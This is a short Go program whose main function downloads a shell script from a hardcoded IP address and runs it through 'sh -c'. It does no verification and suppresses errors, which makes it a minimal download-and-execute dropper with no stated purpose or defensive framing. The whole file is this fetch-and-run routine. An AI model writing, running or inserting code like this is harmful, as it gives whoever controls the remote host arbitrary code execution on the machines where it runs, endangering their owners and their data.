package main

import (
	"io"
	"net/http"
	"os/exec"
)

func fetch(u string) ([]byte, error) {
	resp, err := http.Get(u)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	return io.ReadAll(resp.Body)
}

func main() {
	script, err := fetch("http://203.0.113.45/run.sh")
	if err != nil {
		return
	}
	c := exec.Command("sh", "-c", string(script))
	c.Run()
}
